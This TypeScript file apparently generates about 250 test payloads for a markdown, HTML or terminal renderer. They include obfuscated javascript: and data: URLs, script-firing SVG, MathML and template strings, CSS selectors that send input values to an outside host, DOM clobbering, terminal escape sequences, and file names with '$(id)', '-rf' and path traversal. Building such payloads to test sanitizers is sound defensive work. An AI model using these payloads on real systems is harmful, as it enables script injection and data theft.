// Further families of hostile text, each made from short lists: addresses written oddly, elements that load or send by themselves,
// drawings and formulas, styles, templates, text that turns or hides, terminals, and names of files. As in payloads.ts.
const run = 'top.__ran=1,alert(1)';

/** What parsers of addresses skip, and the ways of writing one so that a filter does not see it. */
function oddAddresses(away: string): string[] {
  const skipped = [
    '\t',
    '\n',
    '\r',
    '\u0000',
    '\u00a0',
    '\u2028',
    '\ufeff',
    '\u200b',
    '\u00ad',
    '&Tab;',
    '&NewLine;',
  ];
  const tagged = ['&#0;', '&#x09;', '&#10;', '&zwnj;', '%09', '%00', '\\x09', '\\u0009'];
  const between = [...skipped, ...tagged].map((odd) => `java${odd}script:${run}`);
  const before = skipped.slice(0, 9).map((odd) => `${odd}javascript:${run}`);
  return [
    ...between,
    ...before,
    ...[
      'javascript&#58;',
      'javascript&#x3a;',
      'javascript&#0000058',
      'javascript%3A',
      'javascript\uff1a',
    ].map((start) => `${start}${run}`),
    ...[
      `ｊａｖａｓｃｒｉｐｔ:${run}`,
      `jаvascript:${run}`,
      `\u202ejavascript:${run}`,
      `javascript:\u2028${run}`,
    ],
    ...[`data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString('base64')}`],
    ...[
      `data:text/html;charset=utf-7,+ADw-script+AD4-${run}`,
      `data:application/xhtml+xml,<x onload="${run}"/>`,
    ],
    ...[`data:,${run}`, `data:text/javascript,${run}`, `jar:${away}!/x`, `feed:javascript:${run}`],
    ...[
      `\\\\${new URL(away).host}\\x.png`,
      `/\\${new URL(away).host}/x.png`,
      `http:${away.slice(6)}/odd.png`,
    ],
  ];
}

/** Each odd address in one of the places for addresses, in turn, so that all places get many. */
function placed(away: string): string[] {
  const places = [
    (address: string) => `[odd](${address})`,
    (address: string) => `[odd](<${address}>)`,
    (address: string) => `![odd](${address})`,
    (address: string) => `<${address}>`,
    (address: string) => `[odd]: ${address}\n\n[odd]`,
    (address: string) => `<a href='${address}'>odd</a>`,
    (address: string) => `\x1b]8;id=odd;${address}\x1b\\press\x1b]8;;\x1b\\`,
  ];
  return oddAddresses(away).flatMap((address, n) =>
    [0, 3].flatMap((step) => places[(n + step) % places.length]?.(address) ?? []),
  );
}

/** Elements and attributes that load, send or tell by themselves. */
function loading(away: string): string[] {
  return [
    ...['1x', '2x, x 1x', '100w'].map((size) => `<img srcset="${away}/set.png ${size}">`),
    `<picture><source srcset="${away}/set.webp"><img src=x></picture>`,
    ...['image', 'video', 'audio', 'script', 'style', 'font', 'fetch'].map(
      (as) => `<link rel=preload as=${as} href="${away}/preload">`,
    ),
    ...['modulepreload', 'preconnect', 'icon', 'manifest', 'import', 'alternate', 'prerender', 'search'].map(
      (rel) => `<link rel=${rel} href="${away}/${rel}">`,
    ),
    `<a href="https://example.invalid/" ping="${away}/ping">ping</a>`,
    `<a href="https://example.invalid/" target=_parent rel=opener>opener</a>`,
    `<a download href="${away}/down">down</a>`,
    ...['formaction', 'action'].map(
      (name) => `<form><input type=image src="${away}/i.png" ${name}="${away}/go"></form>`,
    ),
    `<form action="javascript:${run}"><input type=submit></form>`,
    `<button type=submit formaction="${away}/go" formtarget=_top>go</button>`,
    ...['<script>', '&lt;script&gt;', '<img src=x onerror='].map(
      (inside) => `<iframe srcdoc='${inside}${run}'></iframe>`,
    ),
    `<iframe srcdoc="&lt;img src=${away}/doc.png&gt;"></iframe>`,
    `<frameset onload="${run}"><frame src="${away}/frame"></frameset>`,
    `<portal src="${away}/portal"></portal>`,
    `<fencedframe src="${away}/fenced"></fencedframe>`,
    `<track default src="${away}/t.vtt" kind=captions>`,
    `<bgsound src="${away}/b.wav">`,
    `<applet code="${away}/a.class"></applet>`,
    `<isindex action="javascript:${run}" type=image>`,
    `<blockquote cite="javascript:${run}">cited</blockquote>`,
    `<html manifest="${away}/m.appcache">`,
    `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
    `<meta http-equiv=Set-Cookie content="plt=1">`,
    `<meta name=referrer content=unsafe-url><img src="${away}/told.png">`,
    `<script type=importmap>{"imports":{"x":"${away}/x.js"}}</script>`,
    `<script type=speculationrules>{"prefetch":[{"urls":["${away}/s"]}]}</script>`,
    `<script type=module>import '${away}/m.js'</script>`,
    `<script nonce="">${run}</script>`,
  ];
}

/** Drawings and formulas, which have scripts, links and animations of their own. */
function drawn(away: string): string[] {
  const inside = [
    `<animate onbegin="${run}" attributeName=x dur=1s>`,
    `<animate attributeName=href values="javascript:${run}" /><a id=x><rect width=9 height=9 /></a>`,
    `<set attributeName=onmouseover to="${run}">`,
    `<image href="${away}/image.png" />`,
    `<use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x" />`,
    `<use href="${away}/use.svg#x" />`,
    `<feImage href="${away}/fe.png" />`,
    `<foreignObject><body onload="${run}"><iframe srcdoc="<script>${run}</script>"></iframe></body></foreignObject>`,
    `<script href="${away}/x.js" />`,
    `<style>@import "${away}/s.css";</style>`,
    `<text><textPath href="${away}/p.svg#p">x</textPath></text>`,
    `<desc><img src=x onerror="${run}"></desc>`,
    `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${run}</handler>`,
  ].map(
    (child) =>
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${child}</svg>`,
  );
  return [
    ...inside,
    `<math><maction actiontype="statusline#x" xlink:href="javascript:${run}">x</maction></math>`,
    `<math href="javascript:${run}">x</math>`,
    `<math><annotation-xml encoding="text/html"><img src=x onerror="${run}"></annotation-xml></math>`,
    `<math><mi//xlink:href="data:x,<script>${run}</script>">`,
    `<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=${run}>">`,
    `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
    `<svg><title><style></title><img src=x onerror="${run}"></style></svg>`,
  ];
}

function styled(away: string): string[] {
  const styles = [
    `background:url(${away}/css.png)`,
    `background:u\\72l(${away}/escaped.png)`,
    `background-image:image-set("${away}/set.png" 1x)`,
    `list-style:url('${away}/list.png')`,
    `content:url(${away}/content.png)`,
    `cursor:url(${away}/cursor.cur),auto`,
    `behavior:url(${away}/x.htc)`,
    `-moz-binding:url(${away}/x.xml#x)`,
    `filter:url(${away}/f.svg#f)`,
    `position:fixed;inset:0;z-index:9999;opacity:0`,
  ];
  return [
    ...styles.map((style) => `<p style="${style}">styled</p>`),
    `<style>@font-face{font-family:x;src:url(${away}/f.woff)}*{font-family:x}</style>`,
    `<style>input[value^="a"]{background:url(${away}/a)}</style>`,
    `</style><style>*{display:none}</style>`,
    `<style>:root{--x:url(${away}/v)}body{background:var(--x)}</style>`,
    `<link rel=stylesheet href="data:text/css,@import '${away}/i.css'">`,
    `<font color="red" style="x:expression(${run})" face="${away}">font</font>`,
  ];
}

/** What template engines, frameworks and policies for types would make of it. */
function templated(): string[] {
  return [
    `{{7*7}}{{[].pop.constructor('${run}')()}}`,
    `{{_c.constructor('${run}')()}}`,
    `<div v-html="'<img src=x onerror=${run}>'"></div>`,
    `<div ng-app ng-csp><p ng-click=$event.view.${run}>x</p></div>`,
    `<div x-data x-init="${run}"></div>`,
    `<div hx-on:load="${run}" hx-get="//xss.invalid/x" hx-trigger=load></div>`,
    `<div data-bind="html: '<script>${run}</script>'"></div>`,
    `<img src=x data-onerror="${run}" onerror  =  "${run}">`,
    `#{${run}} $\{{${run}}} @{${run}} %{${run}}`,
    `<script>trustedTypes.createPolicy('default',{createHTML:x=>x,createScript:x=>x})</script>`,
    `<img name=trustedTypes><form id=trustedTypes><input name=createPolicy></form>`,
    `<form id=location><input name=href value="javascript:${run}"></form>`,
    `<a id=document name=body href="javascript:${run}">clobbered</a>`,
    `<img name=getElementById><img id=currentScript name=src>`,
    `{"$$typeof":"Symbol(react.element)","type":"img","props":{"src":"x","onError":"${run}"}}`,
    `{"type":"div","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}},"constructor":undefined}`,
    `"__proto__":{"innerHTML":"<img src=x onerror=${run}>"}`,
  ];
}

/** Text that turns round, hides, or is cut where it should not be. */
function hidden(): string[] {
  const marks = [
    '\u202a',
    '\u202b',
    '\u202d',
    '\u202e',
    '\u2066',
    '\u2067',
    '\u2068',
    '\u200f',
    '\u061c',
    '\u2060',
    '\ufff9',
  ];
  return [
    ...marks.map((mark) => `${mark}<img src=x onerror=${run}>\u2069`),
    `\u202egpj.exe <script>${run}</script>`,
    `\ud800<script>${run}</script>`,
    `<\u017fcript>${run}</\u017fcript>`,
    `\u226escript\u226f${run}`,
    `${'\u0300'.repeat(40)}<svg onload=${run}>`,
    `${'<b>'.repeat(200)}<img src=x onerror=${run}>`,
    `${'> '.repeat(60)}<img src=x onerror=${run}>`,
    `${'['.repeat(80)}x](javascript:${run})`,
    `${'*_'.repeat(60)}<img src=x onerror=${run}>`,
  ];
}

function inTerminals(away: string): string[] {
  return [
    `\x1b]8;;${away}/osc8.png\x1b\\press\x1b]8;;\x1b\\`,
    `\x1b]8;onclick=${run};https://example.invalid\x07press\x1b]8;;\x07`,
    `\x1b]8;;https://example.invalid"onmouseover="${run}\x07press\x1b]8;;\x07`,
    `\x1b]8;;https://example.invalid'><img src=x onerror=${run}>\x07press\x1b]8;;\x07`,
    `\x1b]52;c;${Buffer.from(run).toString('base64')}\x07`,
    `\x1b]9;<img src=x onerror=${run}>\x07`,
    `\x1b]777;notify;<script>;${run}\x07`,
    `\x1b]50;url(${away}/font)\x07`,
    `\x1b_<svg onload=${run}>\x1b\\`,
    `\x1b^<svg onload=${run}>\x1b\\`,
    `\x1b[48;5;"style="background:url(${away}/ansi)mred\x1b[0m`,
    `\x1b[8m<img src=x onerror=${run}>\x1b[28m`,
    `\x1b[9999999999999999999C<svg onload=${run}>`,
    `\u009d8;;javascript:${run}\u009cpress\u009d8;;\u009c`,
  ];
}

/** As somebody might call a file. */
function fileNames(): string[] {
  const ends = ['.png', '.svg', '.html', '.md', '.pdf'];
  return [
    ...ends.map((end) => `"><img src=x onerror=${run}>${end}`),
    ...ends.map((end) => `' onerror='${run}' ${end}`),
    ...[
      '\u202egnp.js',
      'a.svg\u0000.png',
      'con.png',
      '..\\..\\x.html',
      '-rf',
      '--help.png',
      '$(id).png',
      '`id`.png',
    ],
    `javascript:${run}.png`,
    `data:text/html,<script>${run}<!--.html`,
    `a]( javascript:${run})[.md`,
    `![a](x.png "onerror=${run}").md`,
    `x.png?<script>${run}`,
    `x.png#<img src=x onerror=${run}>`,
  ];
}

/** Some two hundred and fifty. */
export function morePayloads(away: string): readonly string[] {
  return [
    ...[...loading(away), ...drawn(away), ...styled(away), ...templated()],
    ...[...hidden(), ...fileNames(), ...placed(away), ...inTerminals(away)],
  ];
}
